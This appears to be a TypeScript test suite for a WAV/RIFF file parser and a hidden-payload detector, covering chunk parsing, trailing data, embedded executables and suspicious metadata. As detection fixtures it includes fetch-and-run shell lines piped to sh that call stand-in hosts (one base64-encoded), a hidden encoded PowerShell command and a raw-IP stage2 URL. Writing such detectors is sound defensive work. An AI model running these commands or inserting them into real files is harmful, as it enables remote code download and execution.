import { riffAnalyzer } from '../../src/analyzers/riff.js';
import { parseRiff } from '../../src/formats/riff.js';
import { inspectBlob } from '../../src/decode/index.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { bytes, cat, elfExe, fmtChunk, id3Frame, id3v1, id3v2, jpeg, listInfo, noise, pcm, peExe, png, riffChunk, textFrame, utf8, wav, apic } from '../helpers/audio.js';

/** Tests that need the shared decoder (base64/XOR peeling, code classification) run once it is implemented. */
const decoderReady = inspectBlob(utf8('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V2aWwuZXhhbXBsZS9hIHwgc2gnKQ==')).summary !== 'not inspected';
const withDecoder = decoderReady ? test : test.skip;

const run = (d: Uint8Array, name = 'sound.wav') => runAnalyzer(riffAnalyzer, name, d);
const b64 = (b: Uint8Array | string) => Buffer.from(typeof b === 'string' ? Buffer.from(b) : b).toString('base64');

describe('RIFF parser', () => {
  test('finds fmt (incl. WAVE_FORMAT_EXTENSIBLE), data and LIST sub-chunks', () => {
    const d = wav({ fmt: fmtChunk({ extensible: true, channels: 2, bits: 24, rate: 48000 }), chunks: [listInfo([['INAM', 'Title']]), riffChunk('data', pcm(30))] });
    const p = parseRiff(d);
    expect(p.fmt?.formatTag).toBe(0xfffe);
    expect(p.fmt?.extensible?.subFormatTag).toBe(1);
    expect(p.fmt?.channels).toBe(2);
    expect(p.fmt?.sampleRate).toBe(48000);
    expect(p.data?.size).toBe(60);
    expect(p.chunks.map((c) => c.id)).toEqual(['fmt ', 'LIST', 'INAM', 'data']);
    expect(p.chunks.find((c) => c.id === 'INAM')?.parent).toBe('INFO');
    expect(p.anomalies).toEqual([]);
  });

  test('honours the odd-size pad byte, and copes with writers that forget it', () => {
    const padded = wav({ chunks: [riffChunk('data', pcm(10)), riffChunk('note', 'abc'), riffChunk('smpl', new Uint8Array(36))] });
    expect(parseRiff(padded).chunks.map((c) => c.id)).toEqual(['fmt ', 'data', 'note', 'smpl']);
    const unpadded = wav({ chunks: [riffChunk('data', pcm(10)), riffChunk('note', 'abc', { pad: false }), riffChunk('smpl', new Uint8Array(36))] });
    const p = parseRiff(unpadded);
    expect(p.chunks.map((c) => c.id)).toEqual(['fmt ', 'data', 'note', 'smpl']);
    expect(p.anomalies.map((a) => a.code)).toEqual(['unpadded-odd-chunk']);
  });

  test('RF64: data size comes from ds64', () => {
    const ds64 = riffChunk('ds64', new Uint8Array([...new Uint8Array(8), 100, 0, 0, 0, 0, 0, 0, 0, ...new Uint8Array(12)]));
    const body = cat('WAVE', ds64, fmtChunk(), 'data', [0xff, 0xff, 0xff, 0xff], pcm(50));
    const d = cat('RF64', [0xff, 0xff, 0xff, 0xff], body);
    // patch the ds64 riff size
    d.set([(body.length) & 255, body.length >> 8, 0, 0], 20);
    const p = parseRiff(d);
    expect(p.container).toBe('RF64');
    expect(p.data).toEqual({ offset: d.length - 100, size: 100, declaredSize: 100 });
    expect(p.trailing).toBeNull();
  });

  test('bounded: 0xFFFFFFFF sizes, zero sizes and a chunk flood end in anomalies, not exceptions', () => {
    const flood = cat(...Array.from({ length: 5000 }, () => riffChunk('abcd', new Uint8Array(0))));
    const p = parseRiff(wav({ chunks: [flood] }));
    expect(p.anomalies.map((a) => a.code)).toContain('chunk-limit');
    const ff = parseRiff(wav({ chunks: [cat('junk', [0xff, 0xff, 0xff, 0xff], new Uint8Array(10))] }));
    expect(ff.anomalies.map((a) => a.code)).toContain('chunk-size-ff');
    for (let n = 0; n < 60; n++) expect(() => parseRiff(wav().subarray(0, n))).not.toThrow();
  });
});

describe('riff analyzer: ordinary files stay quiet', () => {
  test('plain PCM, LIST/INFO with title/artist/software, bext/cue/smpl/fact/PEAK/iXML, XMP in _PMX, JUNK zeros, id3 chunk with cover', async () => {
    const id3 = id3v2([textFrame('TIT2', 'Song'), textFrame('TPE1', 'Band'), apic('image/png', png())]);
    const d = wav({
      chunks: [
        riffChunk('JUNK', new Uint8Array(28)),
        riffChunk('fact', new Uint8Array([0x20, 3, 0, 0])),
        riffChunk('PEAK', new Uint8Array(24)),
        riffChunk('bext', cat(bytes('Recorded at home').subarray(0), new Uint8Array(600))),
        riffChunk('data', pcm(2000)),
        riffChunk('cue ', new Uint8Array(28)),
        riffChunk('smpl', new Uint8Array(36)),
        riffChunk('iXML', '<?xml version="1.0"?><BWFXML xmlns="http://www.example.org/ixml"><PROJECT>x</PROJECT></BWFXML>'),
        riffChunk('_PMX', '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="Adobe Audition"/></rdf:RDF></x:xmpmeta>' + ' '.repeat(5000) + '<?xpacket end="w"?>'),
        listInfo([['INAM', 'Boom'], ['IART', 'Someone'], ['ISFT', 'Lavf58.29.100'], ['ICMT', 'Downloaded from https://freesound.org/people/x/sounds/1234/']]),
        riffChunk('id3 ', id3),
      ],
    });
    const r = await run(d);
    expect(r.findings).toEqual([]);
    expect(r.incomplete).toEqual([]);
  });

  test('a trailing ID3v1 tag and a final pad byte are not trailing data', async () => {
    const base = wav({ chunks: [riffChunk('data', pcm(101).subarray(0, 201))] });
    expect((await run(cat(base, id3v1('Title', 'Artist')))).findings).toEqual([]);
    expect((await run(cat(base, id3v2([textFrame('TIT2', 'x')]))))).toMatchObject({ findings: [] });
  });

  test('an unknown small vendor chunk is normal', async () => {
    const r = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('XYZ1', noise(200))] }));
    expect(r.findings).toEqual([]);
  });
});

describe('audio.riff.trailing-data', () => {
  test('bytes after the RIFF end are reported with their size; alone they stay below the threshold', async () => {
    const r = await run(wav({ trailing: noise(5000) }));
    expect(ruleIds(r)).toEqual(['audio.riff.trailing-data']);
    expect(scoreOf(r, 'audio.riff.trailing-data')).toBe(3);
    const f = r.findings[0];
    expect(f.evidence?.bytes).toBe(5000);
    expect(f.offset).toBe(wav().length);
  });

  test('a few stray bytes are weaker than kilobytes', async () => {
    const r = await run(wav({ trailing: noise(20) }));
    expect(scoreOf(r, 'audio.riff.trailing-data')).toBeLessThan(3);
    expect(scoreOf(r, 'audio.riff.trailing-data')).toBeGreaterThan(0);
  });

  test('trailing zero fill is not reported', async () => {
    expect((await run(wav({ trailing: new Uint8Array(512) }))).findings).toEqual([]);
  });
});

describe('audio.riff.hidden-payload', () => {
  test('an executable appended after the RIFF end is a payload finding that flags by itself', async () => {
    const r = await run(wav({ trailing: peExe() }));
    expect(ruleIds(r)).toEqual(['audio.riff.hidden-payload', 'audio.riff.trailing-data']);
    expect(scoreOf(r, 'audio.riff.hidden-payload')).toBe(9);
  });

  test('base64 of an ELF inside a custom chunk', async () => {
    const r = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('zzzz', b64(elfExe(400)))] }));
    expect(ruleIds(r)).toContain('audio.riff.hidden-payload');
    expect(ruleIds(r)).toContain('audio.riff.odd-chunk');
  });

  test('a cover picture in a normal chunk does not count, an executable in the same place does', async () => {
    const ok = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('id3 ', id3v2([apic('image/jpeg', jpeg(3000))]))] }));
    expect(ok.findings).toEqual([]);
    const bad = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('id3 ', id3v2([apic('image/jpeg', peExe(3000))]))] }));
    expect(ruleIds(bad)).toEqual(['audio.riff.bad-picture', 'audio.riff.hidden-payload']);
  });

  withDecoder('trailing data that is base64 of a shell command is a payload (needs the decoder)', async () => {
    const r = await run(wav({ trailing: utf8(b64('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n')) }));
    expect(ruleIds(r)).toContain('audio.riff.hidden-payload');
  });

  withDecoder('XOR-encrypted executable after the RIFF end (needs the decoder)', async () => {
    const key = [0x4b, 0x1f, 0x22, 0x90, 0x01, 0x7e, 0x33, 0xc4];
    const exe = peExe(2048);
    const x = exe.map((v, i) => v ^ key[i % 8]);
    const r = await run(wav({ trailing: utf8(b64(cat(key, x))) }));
    expect(scoreOf(r, 'audio.riff.hidden-payload')).toBeGreaterThanOrEqual(7);
  });
});

describe('audio.riff.size-mismatch', () => {
  test('a chunk size that runs past the end mid-file is a lie', async () => {
    const d = wav({ chunks: [riffChunk('LIST', cat('INFO', riffChunk('INAM', 'x')), { size: 900000 }), riffChunk('data', pcm(100))] });
    const r = await run(d);
    expect(ruleIds(r)).toContain('audio.riff.size-mismatch');
    expect(scoreOf(r, 'audio.riff.size-mismatch')).toBe(2);
  });

  test('a truncated file (data cut short) is reported weaker; consistent sizes are not reported', async () => {
    const full = wav({ chunks: [riffChunk('data', pcm(1000))] });
    const r = await run(full.subarray(0, 1000));
    expect(scoreOf(r, 'audio.riff.size-mismatch')).toBe(1);
    expect(ruleIds(await run(full))).toEqual([]);
  });

  test('a RIFF size smaller than the file with the data chunk complete: the chunk explains the bytes', async () => {
    const d = wav({ chunks: [riffChunk('data', pcm(100))] });
    d.set([(d.length - 8 - 12) & 255, (d.length - 20) >> 8, 0, 0], 4);
    const r = await run(d);
    expect(ruleIds(r)).toEqual(['audio.riff.size-mismatch']);
  });
});

describe('audio.riff.malformed', () => {
  test('no data chunk, or garbage where a chunk header should be', async () => {
    expect(ruleIds(await run(wav({ chunks: [riffChunk('LIST', cat('INFO', riffChunk('INAM', 'x')))] })))).toEqual(['audio.riff.malformed']);
    const g = await run(wav({ chunks: [riffChunk('data', pcm(10)), new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8, 9, 10])] }));
    expect(ruleIds(g)).toContain('audio.riff.malformed');
  });

  test('a header alone or random bytes after RIFF....WAVE never throw', async () => {
    for (const d of [bytes('RIFF\0\0\0\0WAVE'), cat('RIFF', [255, 255, 255, 255], 'WAVE', noise(3000)), cat('RIFF', [8, 0, 0, 0], 'WAVEfmt ')]) {
      const r = await run(d);
      expect(r.incomplete).toEqual([]);
      expect(r.findings.length).toBeGreaterThan(0);
    }
  });

  test('a well-formed file is not malformed', async () => {
    expect(ruleIds(await run(wav()))).not.toContain('audio.riff.malformed');
  });
});

describe('audio.riff.odd-chunk', () => {
  test('a large unknown chunk is reported; JUNK holding text is reported', async () => {
    const big = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('blob', noise(40000))] }));
    expect(ruleIds(big)).toEqual(['audio.riff.odd-chunk']);
    const junk = await run(wav({ chunks: [riffChunk('JUNK', 'this padding is really a message for someone to read'), riffChunk('data', pcm(100))] }));
    expect(ruleIds(junk)).toEqual(['audio.riff.odd-chunk']);
  });

  test('JUNK of zeros and a large data chunk are not odd', async () => {
    const r = await run(wav({ chunks: [riffChunk('JUNK', new Uint8Array(4000)), riffChunk('data', pcm(60000))] }));
    expect(r.findings).toEqual([]);
  });
});

describe('audio.riff.suspicious-text', () => {
  test('a PowerShell command in LIST/INFO', async () => {
    const r = await run(wav({ chunks: [riffChunk('data', pcm(100)), listInfo([['ICMT', 'powershell -nop -w hidden -enc SQBFAFgA']])] }));
    expect(ruleIds(r)).toEqual(['audio.riff.suspicious-text']);
    expect(scoreOf(r, 'audio.riff.suspicious-text')).toBe(3);
  });

  test('a URL to a raw IP in a comment; an ordinary homepage link is fine', async () => {
    const bad = await run(wav({ chunks: [riffChunk('data', pcm(100)), listInfo([['ICMT', 'see http://198.51.100.7/stage2.bin']])] }));
    expect(ruleIds(bad)).toEqual(['audio.riff.suspicious-text']);
    const ok = await run(wav({ chunks: [riffChunk('data', pcm(100)), listInfo([['ICMT', 'https://www.example.com/sounds']])] }));
    expect(ok.findings).toEqual([]);
  });
});

describe('audio.riff.text-samples', () => {
  test('a data chunk that is base64 text instead of samples (the telnyx shape)', async () => {
    const payload = utf8(b64(noise(3000)));
    const r = await run(wav({ chunks: [riffChunk('data', payload)] }));
    expect(ruleIds(r)).toContain('audio.riff.text-samples');
  });

  test('real PCM, even quiet 8-bit PCM, is not text', async () => {
    const quiet = new Uint8Array(4000).map((_, i) => 128 + Math.round(Math.sin(i / 9) * 3));
    expect(ruleIds(await run(wav({ fmt: fmtChunk({ bits: 8 }), chunks: [riffChunk('data', quiet)] })))).toEqual([]);
  });
});

describe('audio.riff.bad-picture', () => {
  test('an APIC in the id3 chunk that is text', async () => {
    const r = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('id3 ', id3v2([apic('image/png', utf8('not a picture at all, just words '.repeat(5)))]))] }));
    expect(ruleIds(r)).toContain('audio.riff.bad-picture');
  });

  test('a real PNG cover is fine', async () => {
    const r = await run(wav({ chunks: [riffChunk('data', pcm(100)), riffChunk('id3 ', id3v2([apic('image/png', png()), id3Frame('TALB', cat([0], 'x'))]))] }));
    expect(r.findings).toEqual([]);
  });
});
